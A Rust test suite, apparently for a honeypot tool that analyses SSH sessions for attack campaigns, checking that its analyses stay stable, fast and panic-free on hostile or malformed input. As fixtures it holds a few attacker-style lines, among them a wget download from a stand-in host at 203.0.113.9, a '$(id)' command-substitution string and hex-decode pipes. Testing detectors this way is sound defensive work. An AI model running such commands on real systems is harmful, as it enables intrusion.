//! Whatever attackers write, the analyses neither panic nor hang, and they give the same result however the
//! days are divided.

use std::{
    collections::BTreeSet,
    net::{IpAddr, Ipv4Addr, Ipv6Addr},
    sync::Mutex,
    time::{Duration, Instant},
};

use analysis::{
    Data, DataBuilder, Finding, Stopped, Watch,
    autoencoder::Device,
    campaign::{self, Kind},
    data::Row,
    longtail::{self, Model, Part},
};
use events::features::LENGTH;
use proptest::prelude::*;

use crate::{Random, unwatched};

const DAY: i64 = 86_400_000_000;
const KINDS: [Kind; 2] = [Kind::Snowshoe, Kind::Botnet];
/// A test that runs longer than this hangs. A debug build on a busy machine takes a fraction of it.
const LIMIT: Duration = Duration::from_secs(40);

#[derive(Clone, Default)]
struct One {
    sensor: String,
    session: String,
    source: Option<IpAddr>,
    started: i64,
    seconds: f64,
    client: Option<String>,
    logins: Vec<(String, Option<String>)>,
    inputs: Vec<String>,
    files: Vec<String>,
    urls: Vec<String>,
    targets: Vec<String>,
    keys: Vec<String>,
    vector: Vec<f32>,
}

/// Builds the sequence as the processor does: a fingerprint of all commands, and the first 200 lines.
fn sequence(inputs: &[String]) -> Option<([u8; 16], usize, String)> {
    let mut fingerprint = [0; 16];
    fingerprint.copy_from_slice(&blake3::hash(inputs.join("\n").as_bytes()).as_bytes()[..16]);
    (!inputs.is_empty()).then(|| (fingerprint, inputs.len(), inputs[..inputs.len().min(200)].join("\n")))
}

fn data<'a>(all: impl IntoIterator<Item = &'a One>) -> Data {
    let mut builder = DataBuilder::default();
    for one in all {
        let sequence = sequence(&one.inputs);
        builder.push(&Row {
            sensor: &one.sensor,
            session: &one.session,
            source: one.source,
            started: one.started,
            seconds: one.seconds,
            client: one.client.as_deref(),
            hassh: None,
            logins: one
                .logins
                .iter()
                .map(|(user, password)| (user.as_str(), password.as_deref(), true))
                .collect(),
            inputs: one.inputs.iter().map(String::as_str).collect(),
            sequence: sequence
                .as_ref()
                .map(|(fingerprint, length, commands)| (*fingerprint, *length, commands.as_str())),
            files: one.files.iter().map(String::as_str).collect(),
            urls: one.urls.iter().map(String::as_str).collect(),
            targets: one.targets.iter().map(String::as_str).collect(),
            keys: one.keys.iter().map(String::as_str).collect(),
            vector: &one.vector,
        });
    }
    builder.build()
}

fn address(n: usize) -> Option<IpAddr> {
    Some(Ipv4Addr::from_bits(0xcb00_0000 + n as u32 * 257).into())
}

/// Returns ordinary sessions of some days, whose sources try a few things. The shapes depend only on their
/// number, so that many tests share one model.
fn ordinary(count: usize, days: i64, seed: u64) -> Vec<One> {
    let mut random = Random::new(seed);
    let one = |n: usize| {
        let (what, kind) = (random.below(6), n % 23);
        One {
            sensor: format!("s{}", random.below(3)),
            session: format!("{n:012x}"),
            source: address(random.below(count / 4 + 1)),
            started: (random.unit() * (days * DAY) as f64) as i64,
            seconds: random.unit() * 60.0,
            client: Some(format!("SSH-2.0-c{}", random.below(4))),
            logins: (0..1 + random.below(3))
                .map(|_| ("root".to_owned(), Some(format!("p{}", random.below(9)))))
                .collect(),
            inputs: (0..what).map(|at| format!("cmd{} <file>", (what * at + random.below(2)) % 11)).collect(),
            vector: (0..LENGTH)
                .map(|place| if (place + kind) % 3 == 0 { ((place * kind) % 3) as f32 } else { 0.0 })
                .collect(),
            ..One::default()
        }
    };
    (0..count).map(one).collect()
}

fn part(data: &Data) -> Part {
    unwatched(|watch| Part::of(data, watch))
}

fn span(data: &Data) -> std::ops::Range<i64> {
    let ends = data.sessions.first().zip(data.sessions.last());
    ends.map_or(0..0, |(first, last)| first.started..last.started.saturating_add(1))
}

fn trained(parts: &longtail::Parts<'_>, known: Vec<Model>) -> longtail::Outcome {
    unwatched(|watch| {
        longtail::analyse(parts, known, &longtail::Parameters::default(), &Device::open().unwrap(), watch)
    })
}

/// Uses the models that other tests trained: training takes seconds in a debug build.
fn analysed(parts: &longtail::Parts<'_>) -> longtail::Outcome {
    static KNOWN: Mutex<Vec<Model>> = Mutex::new(Vec::new());
    let known = KNOWN.lock().unwrap().clone();
    let outcome = trained(parts, known.clone());
    if let Some(model) = outcome.model.as_ref().filter(|model| !known.contains(model)) {
        KNOWN.lock().unwrap().push(model.clone());
    }
    outcome
}

fn detected(kind: Kind, data: &Data) -> campaign::Outcome {
    unwatched(|watch| {
        campaign::detect(
            kind,
            data,
            span(data),
            &campaign::Earlier::default(),
            &campaign::Parameters::default(),
            watch,
        )
    })
}

/// Checks that findings name only what the data contains.
fn checked(findings: &[Finding], data: &Data) {
    let names: BTreeSet<_> = data.sessions.iter().map(|session| data.name(session)).collect();
    for finding in findings {
        assert!((0.0..=1.0).contains(&finding.confidence), "{finding:?}");
        assert!(finding.first_seen <= finding.last_seen, "{finding:?}");
        assert!(finding.sessions.iter().all(|name| names.contains(name)), "{finding:?}");
        assert!(!finding.key.is_empty() && finding.title.lines().count() == 1, "{finding:?}");
        assert_eq!(finding.full_json()["sources"], serde_json::json!(finding.sources));
    }
    let keys: BTreeSet<_> = findings.iter().map(|finding| (finding.rule.name(), &finding.key)).collect();
    assert_eq!(keys.len(), findings.len(), "each thing is found once");
}

/// Runs all analyses of a data set twice and compares.
fn everything(data: &Data) -> usize {
    let one = part(data);
    assert_eq!(one.to_bytes(), part(data).to_bytes(), "the same sessions are the same part");
    assert_eq!(Part::from_bytes(&one.to_bytes()).as_ref(), Some(&one));
    let outcome = analysed(&[(span(data), &one)]);
    checked(&outcome.findings, data);
    let mut found = outcome.findings.len();
    for kind in KINDS {
        let outcome = detected(kind, data);
        checked(&outcome.findings, data);
        assert_eq!(outcome, detected(kind, data));
        found += outcome.findings.len();
    }
    found
}

#[test]
fn no_session_and_one_session_give_no_findings() {
    assert_eq!(everything(&data(&[])), 0);
    assert_eq!(everything(&data(&[One::default()])), 0);
    assert_eq!(everything(&data(&ordinary(1, 1, 3))), 0);
    let outcome = analysed(&[]);
    assert_eq!((outcome.findings.len(), outcome.model), (0, None));
}

#[test]
fn a_session_may_type_a_hundred_thousand_commands_or_one_of_a_megabyte() {
    let mut all = ordinary(200, 3, 1);
    all[7].inputs = (0..100_000).map(|n| format!("echo {n}")).collect();
    all[8].inputs = vec!["x".repeat(1 << 20)];
    all[9].inputs = vec!["echo é; ".repeat(1 << 17)];
    all[10].logins = (0..100_000).map(|n| (format!("u{n}"), Some(format!("p{n}")))).collect();
    assert!(everything(&data(&all)) > 0);
}

#[test]
fn texts_that_look_like_what_is_searched_for_take_no_time() {
    let begun = Instant::now();
    let long = 64 << 10;
    let fill = |text: &str| text.repeat(long / text.len());
    let blob = format!("ssh-rsa {} ", "A".repeat(70));
    let texts = [
        "\\",
        "\\x",
        "\\x4",
        "\\141\\",
        "http://a",
        "http://a@",
        "http://[",
        "ecdsa-sha2-nistp",
        "ssh-rsa ",
        &blob,
        "Aa1+/=",
        "ab0",
        "Zz9 ",
    ];
    let mut all = ordinary(60, 1, 2);
    for (n, text) in texts.iter().enumerate() {
        all[n].inputs = (0..4).map(|more| format!("{}{more}", fill(text))).collect();
        all[n].urls = vec![fill(text)];
    }
    everything(&data(&all));
    assert!(begun.elapsed() < LIMIT, "{:?}", begun.elapsed());
}

#[test]
fn thousands_of_new_commands_of_three_sources_take_no_time() {
    let begun = Instant::now();
    let mut all = ordinary(400, 14, 5);
    for session in 0..50 {
        for source in 0..3 {
            all.push(One {
                session: format!("new{session}-{source}"),
                source: address(90_000 + source),
                started: 13 * DAY + session,
                inputs: (0..200).map(|n| format!("new {session} {n}")).collect(),
                ..all[0].clone()
            });
        }
    }
    let data = data(&all);
    let outcome = analysed(&[(span(&data), &part(&data))]);
    checked(&outcome.findings, &data);
    assert!(
        outcome.summary["detections"]["emerging_patterns"].as_u64().unwrap() >= 10_000,
        "{}",
        outcome.summary["detections"]
    );
    assert!(begun.elapsed() < LIMIT, "{:?}", begun.elapsed());
}

#[test]
fn a_session_repeated_a_hundred_thousand_times_is_not_odd() {
    let same = ordinary(1, 1, 1).remove(0);
    let all: Vec<One> = (0..100_000)
        .map(|n| One {
            session: format!("{n:012x}"),
            started: n * 1_000_000,
            source: address(n as usize % 20_000),
            ..same.clone()
        })
        .collect();
    let data = data(&all);
    let outcome = analysed(&[(span(&data), &part(&data))]);
    assert!(outcome.findings.is_empty(), "{:?}", outcome.findings);
    for kind in KINDS {
        assert!(detected(kind, &data).findings.is_empty());
    }
}

#[test]
fn values_that_are_not_finite_count_as_zero() {
    let mut all = ordinary(200, 2, 4);
    let strange = [f64::NAN, f64::INFINITY, f64::NEG_INFINITY, f64::MAX, -1.0, 1e-320];
    for (n, one) in all.iter_mut().enumerate() {
        one.seconds = strange[n % strange.len()];
        one.vector = (0..n % 70).map(|place| strange[(n + place) % strange.len()] as f32).collect();
    }
    let data = data(&all);
    everything(&data);
    assert!(
        data.sessions
            .iter()
            .all(|session| session.seconds.is_finite() && data.vector(session).iter().all(|x| x.is_finite()))
    );
}

#[test]
fn any_time_is_accepted() {
    let ends = [i64::MIN, i64::MIN + 1, -DAY, -1, 0, 1, DAY, i64::MAX - 1, i64::MAX];
    for times in [&ends[..], &ends[..2], &ends[7..]] {
        // The same commands and client from few sources: a campaign, if the times fit.
        let mut all = ordinary(60, 1, 6);
        for (n, one) in all.iter_mut().enumerate() {
            one.started = times[n % times.len()];
            if n < 30 {
                one.source = address(50_000 + n % 6);
                one.client = Some("SSH-2.0-own".into());
                one.inputs = vec![format!("own {}", n % 2), "wget http://203.0.113.9/x".into()];
                one.urls = vec!["http://203.0.113.9/x".into()];
            }
        }
        let data = data(&all);
        assert!(everything(&data) > 0, "{times:?}");
        let part = part(&data);
        for (from, to) in [(i64::MIN, i64::MAX), (i64::MIN, i64::MIN), (i64::MAX, i64::MIN), (5, 5)] {
            let span = from..to;
            analysed(&[(span.clone(), &part)]);
            for kind in KINDS {
                unwatched(|watch| {
                    campaign::detect(
                        kind,
                        &data,
                        span.clone(),
                        &campaign::Earlier::default(),
                        &campaign::Parameters::default(),
                        watch,
                    )
                });
            }
        }
    }
}

#[test]
fn sources_may_be_missing_or_few_or_of_any_kind() {
    let mut all = ordinary(200, 2, 7);
    let set = |all: &mut Vec<One>, source: &dyn Fn(usize) -> Option<IpAddr>| {
        all.iter_mut().enumerate().for_each(|(n, one)| one.source = source(n))
    };
    set(&mut all, &|_| None);
    let none = data(&all);
    everything(&none);
    assert!(KINDS.iter().all(|&kind| detected(kind, &none).findings.is_empty()));
    set(&mut all, &|n| address(n % 2));
    everything(&data(&all));
    set(&mut all, &|n| Some(Ipv6Addr::from_bits(u128::MAX - ((n as u128) << 78)).into()));
    everything(&data(&all));
    set(&mut all, &|n| {
        Some(if n % 2 == 0 { Ipv4Addr::BROADCAST.into() } else { Ipv6Addr::UNSPECIFIED.into() })
    });
    everything(&data(&all));
}

#[test]
fn all_sessions_may_have_the_same_time_and_name() {
    let mut all = ordinary(200, 1, 8);
    all.iter_mut().for_each(|one| {
        one.started = 1_000_000;
        one.session = "same".into();
        one.sensor = String::new();
    });
    everything(&data(&all));
}

#[test]
fn texts_may_hold_anything() {
    let strange = [
        "\u{0}\u{1b}[31m",
        "a\nb\r\nc",
        "\"'`$(id)`\\",
        "\u{202e}\u{feff}é\u{301}",
        "",
        "\n\n",
        "a:b\\",
        "{\"key\":1}",
        "\u{85}\u{2028}\u{b}",
        &"ü".repeat(5_000),
    ];
    let mut all = ordinary(200, 13, 9);
    for (n, one) in all.iter_mut().enumerate() {
        let text = |more: usize| strange[(n + more) % strange.len()].to_owned();
        one.logins = vec![
            (text(0), Some(text(1))),
            (text(2), None),
            (text(3), Some(format!("{}\n{}", text(1), text(2)))),
        ];
        (one.sensor, one.session, one.client) = (text(4), format!("{}{n}", text(5)), Some(text(6)));
        one.inputs = if n % 3 == 0 { vec![text(0), text(7), text(8)] } else { Vec::new() };
        (one.files, one.urls) =
            (vec![text(1)], vec![text(2), format!("http://{}/", text(3)), "http://[".into(), "://".into()]);
        if n % 10 < 3 {
            one.started = 12 * DAY + n as i64;
        }
    }
    assert!(everything(&data(&all)) > 0);
}

#[test]
fn thousands_of_sources_with_one_thing_in_common_take_no_time() {
    let begun = Instant::now();
    let mut all = ordinary(4_000, 7, 10);
    for (n, one) in all.iter_mut().enumerate() {
        one.source = address(n);
        one.urls = vec!["http://198.51.100.1/all".into()];
        one.inputs.push(format!("echo {} | base64", n / 3));
    }
    let data = data(&all);
    for kind in KINDS {
        checked(&detected(kind, &data).findings, &data);
    }
    assert!(begun.elapsed() < LIMIT, "{:?}", begun.elapsed());
}

#[test]
fn damaged_parts_and_models_are_refused() {
    let data = data(&ordinary(60, 1, 11));
    let part = part(&data);
    let model = analysed(&[(span(&data), &part)]).model.unwrap();
    let (part, model) = (part.to_bytes(), model.to_bytes());
    assert!(Part::from_bytes(&model).is_none() && Model::from_bytes(&part).is_none());
    let mut random = Random::new(1);
    for (bytes, read) in [
        (&part, &(|bytes: &[u8]| Part::from_bytes(bytes).is_some()) as &dyn Fn(&[u8]) -> bool),
        (&model, &|bytes: &[u8]| Model::from_bytes(bytes).is_some()),
    ] {
        assert!(read(bytes));
        assert!(!read(&[]) && !read(&[0; 64]) && !read(&[0xff; 64]));
        for _ in 0..300 {
            assert!(!read(&bytes[..random.below(bytes.len())]), "cut");
            let mut flipped = bytes.clone();
            flipped[random.below(bytes.len())] ^= 1 << random.below(8);
            assert!(!read(&flipped), "flipped");
            let mut longer = bytes.clone();
            longer.push(random.below(256) as u8);
            assert!(!read(&longer), "longer");
        }
    }
}

#[test]
fn the_order_in_which_sessions_come_changes_nothing() {
    let all = ordinary(500, 14, 12);
    let (forth, back) = (data(&all), data(all.iter().rev()));
    assert_eq!(part(&forth).to_bytes(), part(&back).to_bytes());
    for kind in KINDS {
        assert_eq!(detected(kind, &forth), detected(kind, &back));
    }
}

#[test]
fn encoded_bytes_have_the_same_randomness_each_time() {
    let encoded: String = (0..40).map(|n| format!("{}", blake3::hash(&[n]).to_hex())).collect();
    let one = One { inputs: vec![format!("echo {encoded} | xxd -r -p")], ..One::default() };
    let data = data(&[one]);
    let first = part(&data).to_bytes();
    assert!((0..50).all(|_| part(&data).to_bytes() == first));
}

/// Cancels at the k-th progress report: for every k if there are few, else for a sample.
fn stops_at_every_cancellation(run: &dyn Fn(&mut Watch<'_>) -> Result<(), Stopped>) {
    let mut reported = Vec::new();
    let mut report = |_: &str, done: f64| {
        reported.push(done);
        true
    };
    assert_eq!(run(&mut Watch::new(&mut report)), Ok(()));
    assert!(reported.windows(2).all(|pair| pair[0] <= pair[1]), "{reported:?}");
    assert_eq!(reported.last(), Some(&1.0));
    // All of the first and last reports, and some between.
    let step = (reported.len() / 20).max(1);
    for k in (1..=reported.len()).filter(|k| k % step == 0 || *k < 10 || *k + 10 > reported.len()) {
        let mut asked = 0;
        let mut report = |_: &str, _: f64| {
            asked += 1;
            asked < k
        };
        assert_eq!(run(&mut Watch::new(&mut report)), Err(Stopped), "{k} of {}", reported.len());
        assert_eq!(asked, k, "it goes on after a cancellation");
    }
}

#[test]
fn an_analysis_stops_wherever_it_is_cancelled_and_ends_at_full_progress() {
    let mut all = ordinary(60, 2, 13);
    all.iter_mut().take(12).enumerate().for_each(|(n, one)| {
        one.source = address(50_000 + n);
        one.client = Some("SSH-2.0-own".into());
        one.inputs = vec!["own".into(), "wget http://203.0.113.9/x".into()];
        one.urls = vec!["http://203.0.113.9/x".into()];
    });
    let data = data(&all);
    let whole = part(&data);
    stops_at_every_cancellation(&|watch| Part::of(&data, watch).map(drop));
    for kind in KINDS {
        stops_at_every_cancellation(&|watch| {
            campaign::detect(
                kind,
                &data,
                span(&data),
                &campaign::Earlier::default(),
                &campaign::Parameters::default(),
                watch,
            )
            .map(drop)
        });
    }
    let device = Device::open().unwrap();
    let model = analysed(&[(span(&data), &whole)]).model.unwrap();
    let analyse = |known: Vec<Model>, watch: &mut Watch<'_>| {
        longtail::analyse(&[(span(&data), &whole)], known, &longtail::Parameters::default(), &device, watch)
            .map(drop)
    };
    stops_at_every_cancellation(&|watch| analyse(vec![model.clone()], watch));
}

#[test]
fn a_cached_model_equals_the_one_that_would_be_trained() {
    let data = data(&ordinary(60, 2, 14));
    let part = part(&data);
    let first = trained(&[(span(&data), &part)], Vec::new());
    let known = Model::from_bytes(&first.model.as_ref().unwrap().to_bytes()).unwrap();
    assert_eq!(trained(&[(span(&data), &part)], Vec::new()), first);
    assert_eq!(trained(&[(span(&data), &part)], vec![known]), first);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, failure_persistence: None, ..ProptestConfig::default() })]
    /// Cached days, days that are read, and merged days give the same result.
    #[test]
    fn the_outcome_does_not_depend_on_how_days_are_divided_or_cached(seed in any::<u64>(), cuts in prop::collection::vec(0_i64..6, 0..6)) {
        let mut all = ordinary(60, 6, seed);
        all.iter_mut().enumerate().for_each(|(n, one)| if n % 9 == 0 { one.inputs.push(format!("echo {}", blake3::hash(&[n as u8 % 4]).to_hex())) });
        let whole = data(&all);
        let one = part(&whole);
        let expected = analysed(&[(0..6 * DAY, &one)]);
        let ends: BTreeSet<i64> = cuts.into_iter().chain([0, 6]).collect();
        let ends: Vec<i64> = ends.into_iter().collect();
        let spans: Vec<_> = ends.windows(2).map(|pair| pair[0] * DAY..pair[1] * DAY).collect();
        let parts: Vec<Part> = spans.iter().map(|span| part(&data(all.iter().filter(|one| span.contains(&one.started))))).collect();
        let kept: Vec<Part> = parts.iter().map(|part| Part::from_bytes(&part.to_bytes()).unwrap()).collect();
        prop_assert_eq!(&kept, &parts);
        let borrowed: Vec<_> = spans.iter().cloned().zip(&kept).collect();
        prop_assert_eq!(&analysed(&borrowed), &expected);
    }
}
